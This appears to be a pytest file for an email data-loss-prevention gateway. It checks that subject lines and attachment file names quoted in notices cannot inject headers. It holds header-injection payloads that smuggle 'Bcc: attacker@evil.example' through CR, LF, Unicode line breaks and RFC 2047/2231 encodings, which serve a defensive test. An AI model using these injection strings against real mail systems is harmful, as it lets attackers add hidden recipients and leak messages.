"""Sender-controlled text (Subject, file names) quoted in notices cannot inject
header fields or extra lines (CR, LF, other line breaks)."""

from __future__ import annotations

import email
from email import policy

import pytest

from dlpgate.actions import notice
from dlpgate.types import Action, Envelope, Finding, RuleHit, Verdict
from tests.synthetic import build_message, nhs_numbers

SENDER = "dr.jones@example-trust.nhs.uk"
EXT = "someone@partner.example.org"
EVIL = ["\r\nBcc: attacker@evil.example", "\nBcc: attacker@evil.example", "\rBcc: attacker@evil.example",
        "\u2028Bcc: attacker@evil.example", "\x85Bcc: attacker@evil.example", "\r\n\r\nInjected body"]


def verdict(subject: str, where: str) -> Verdict:
    return Verdict(
        action=Action.HOLD,
        hits=(RuleHit("health_identifier_external", Action.HOLD),),
        findings=(Finding("nhs_number", "nhs_number", where, 2),),
        external_recipients=(EXT,),
        subject=subject,
    )


def headers_of(raw: bytes) -> list[str]:
    return [k.lower() for k in email.message_from_bytes(raw, policy=policy.default).keys()]


def body_lines(raw: bytes) -> list[str]:
    msg = email.message_from_bytes(raw, policy=policy.default)
    return msg.get_body().get_content().splitlines()


@pytest.mark.parametrize("evil", EVIL)
def test_hold_and_admin_notice_headers_cannot_be_injected(evil):
    v = verdict("Clinic" + evil, "attachment list" + evil + ".csv")
    env = Envelope(SENDER, (EXT,))
    for raw in (
        notice.hold_notice("Q1", env, v, "dlpgate@example-trust.nhs.uk"),
        notice.admin_notice("Q1", env, v, "dlpgate@example-trust.nhs.uk", ("ig@example-trust.nhs.uk",)),
        notice.rewrite_notice(env, v, "dlpgate@example-trust.nhs.uk", "bcc"),
    ):
        assert "bcc" not in headers_of(raw)
        lines = body_lines(raw)
        assert not any(line.startswith(("Bcc:", "Injected")) for line in lines)
        # the quoted text stays on the line it was quoted in
        assert all("attacker@evil.example" not in line or "list" in line or "Clinic" in line for line in lines)


def test_safe_text_strips_every_line_break_and_caps_length():
    for evil in EVIL:
        out = notice.safe_text("a" + evil)
        assert not any(c in out for c in "\r\n\x85\u2028\u2029")
    assert len(notice.safe_text("x" * 1000)) == 120


def test_encoded_crlf_in_subject_and_file_name_end_to_end(make_gateway, sink):
    """RFC 2047 / RFC 2231 encodings decode to CR LF: still nothing injected."""
    gw = make_gateway()
    nhs = nhs_numbers(1, seed=41)[0]
    raw = build_message(
        "Letter attached.\r\n",
        subject="placeholder",
        attachments=[("placeholder.txt", "text/plain", f"NHS {nhs}\n".encode())],
    )
    raw = raw.replace(b"Subject: placeholder", b"Subject: =?utf-8?q?Clinic=0D=0ABcc:_attacker@evil.example?=")
    raw = raw.replace(b'filename="placeholder.txt"', b"filename*=utf-8''list%0D%0ABcc%3A%20attacker%40evil.example.txt")
    code, reply = gw.send(raw, SENDER, [EXT])
    assert code == 250 and b"Held" in reply
    gw.flush()
    got = sink.wait_for(2)
    assert got
    for _, _, body in got:
        assert "bcc" not in headers_of(body)
        assert not any(line.startswith("Bcc:") for line in body_lines(body))
        assert b"\r\nBcc:" not in body
